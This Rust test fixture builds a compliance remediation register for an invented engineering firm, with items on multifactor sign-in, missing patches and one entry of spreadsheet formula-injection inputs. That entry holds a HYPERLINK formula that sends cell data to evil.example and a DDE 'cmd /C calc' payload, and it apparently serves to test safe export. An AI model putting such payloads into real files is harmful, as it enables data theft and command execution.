//! A register to write and read: a small firm, three items in different states, invented people.

use closeout_domain::{
    ids::{Digest, ItemNumber, PartNumber},
    item::{
        Status,
        origin::{Money, Source},
        task::Stage,
        value::{Evidence, Ticket},
    },
    priority::Priority,
};
use closeout_exchange::document::{Criterion, Document, Entry, Label, Milestone, Party, Task};
use jiff::civil::date;

pub(crate) fn party(name: &str, email: &str) -> Party {
    Party { name: name.into(), email: email.into() }
}

fn dana() -> Party {
    party("Dana Whitfield", "dana.whitfield@halden.example")
}

fn omar() -> Party {
    party("Omar Reyes", "omar.reyes@halden.example")
}

fn lines(lines: &[&str]) -> Vec<String> {
    lines.iter().map(|line| (*line).to_owned()).collect()
}

pub fn document() -> Document {
    Document {
        organization: "Halden Precision & Engineering".into(),
        system: "Halden CUI enclave".into(),
        as_of: Some(date(2026, 3, 2)),
        people: vec![dana(), omar(), party("Priya Natarajan", "priya.natarajan@halden.example")],
        entries: vec![multifactor(), patches(), formulas()],
    }
}

fn multifactor() -> Entry {
    Entry {
        label: Label::Item(ItemNumber(1)),
        version: Some(23),
        weakness:
            "Remote access by VPN and the cloud mail service ask for a password only.\nAdministrators are affected too."
                .into(),
        requirement: Some("3.5.3".into()),
        objectives: lines(&["3.5.3[a]", "3.5.3[b]", "3.5.3[d]"]),
        source: Some(Source::Assessment),
        source_detail: "Gap assessment of 10 September 2025".into(),
        root_cause:
            "The VPN gateway was bought before remote work was common; nobody was named to review sign-in methods."
                .into(),
        actions: lines(&[
            "Enrol all staff in multifactor sign-in",
            "Refuse VPN and mail sign-in without a second factor",
        ]),
        owner: Some(dana()),
        priority: Some(Priority::Critical),
        reasons: lines(&["5 points at stake", "faces the internet: one step up"]),
        people: "System administrator; firewall specialist from outside".into(),
        hours: Some(64),
        cost: Some(Money(620_000)),
        funding: "IT budget 2026, approved by management".into(),
        criteria: vec![
            Criterion {
                number: Some(PartNumber(1)),
                text: "Sign-in to the VPN without a second factor is refused".into(),
            },
            Criterion {
                number: Some(PartNumber(3)),
                text: "Export of all accounts shows a registered factor for each".into(),
            },
        ],
        status: Some(Status::Open),
        milestones: vec![
            Milestone {
                number: Some(PartNumber(1)),
                title: "Licences bought and gateway updated".into(),
                due: Some(date(2026, 1, 30)),
                baseline: Some(date(2026, 1, 16)),
                reached: Some(date(2026, 1, 29)),
                changes: lines(&["2026-01-16 to 2026-01-30: licences arrived late (2026-01-12, Dana Whitfield)"]),
                ..Milestone::default()
            },
            Milestone {
                number: Some(PartNumber(2)),
                title: "All staff enrolled, password-only sign-in refused".into(),
                due: Some(date(2026, 3, 27)),
                baseline: Some(date(2026, 2, 27)),
                changes: lines(&[
                    "2026-02-27 to 2026-03-27: two sites without coverage for the phone app (2026-02-20, Dana Whitfield)",
                ]),
                ..Milestone::default()
            },
        ],
        tasks: vec![
            Task {
                number: Some(PartNumber(1)),
                title: "Update the VPN gateway and switch on the second factor".into(),
                responsible: Some(omar()),
                approver: Some(dana()),
                effort: Some(24),
                due: Some(date(2026, 1, 28)),
                stage: Some(Stage::Approved),
                tickets: vec![Ticket { key: "HD-104".into(), url: "https://helpdesk.halden.example/104".into() }],
                ..Task::default()
            },
            Task {
                number: Some(PartNumber(2)),
                title: "Enrol staff, site by site".into(),
                responsible: Some(omar()),
                approver: Some(dana()),
                effort: Some(40),
                due: Some(date(2026, 3, 20)),
                stage: Some(Stage::Open),
                tickets: vec![
                    Ticket { key: "HD-131".into(), url: "https://helpdesk.halden.example/131".into() },
                    Ticket { key: "Phone list".into(), url: String::new() },
                ],
                ..Task::default()
            },
        ],
        due: Some(date(2026, 3, 27)),
        baseline: Some(date(2026, 2, 27)),
        evidence: vec![Evidence {
            digest: Digest([0xa7; 32]),
            name: "vpn-policy-export.pdf".into(),
            size: 48_213,
            media_type: "application/pdf".into(),
            shows: "The gateway refuses password-only sign-in".into(),
            test: Some(PartNumber(1)),
        }],
        ..Entry::default()
    }
}

fn patches() -> Entry {
    Entry {
        label: Label::Item(ItemNumber(2)),
        version: Some(4),
        weakness: "Two servers that face the internet miss security updates older than 60 days".into(),
        requirement: Some("3.14.1".into()),
        objectives: lines(&["3.14.1[e]"]),
        source: Some(Source::Scan),
        source_detail: "weekly-2026-02-16.nessus".into(),
        recurrence_of: Some(ItemNumber(9)),
        owner: Some(omar()),
        priority: Some(Priority::High),
        reasons: lines(&["severity critical"]),
        status: Some(Status::Draft),
        ..Entry::default()
    }
}

/// What a scanner may well have found in a file name, and a spreadsheet must not run.
fn formulas() -> Entry {
    Entry {
        label: Label::Item(ItemNumber(12)),
        version: Some(1),
        weakness: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into(),
        source: Some(Source::PenetrationTest),
        source_detail: "+1 555 0100, -2+3, @SUM(1+1)".into(),
        root_cause: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        actions: lines(&["-- review", "'=quoted", "_x0041_ & <b>"]),
        people: "'=already quoted".into(),
        funding: "+1".into(),
        status: Some(Status::Closed),
        ..Entry::default()
    }
}

/// The document as it comes back: what is only shown is gone, and where things were read does not count.
pub fn read_back(mut document: Document) -> Document {
    for entry in &mut document.entries {
        entry.recurrence_of = None;
        entry.baseline = None;
        entry.evidence.clear();
        entry.origin = Default::default();
        let name_only = |party: &mut Option<Party>| {
            if let Some(party) = party.as_mut().filter(|p| !p.name.is_empty()) {
                party.email.clear();
            }
        };
        name_only(&mut entry.owner);
        for milestone in &mut entry.milestones {
            milestone.baseline = None;
            milestone.changes.clear();
            milestone.origin = Default::default();
        }
        for task in &mut entry.tasks {
            task.stage = None;
            task.origin = Default::default();
            name_only(&mut task.responsible);
            name_only(&mut task.approver);
        }
    }
    document.people.clear();
    document
}
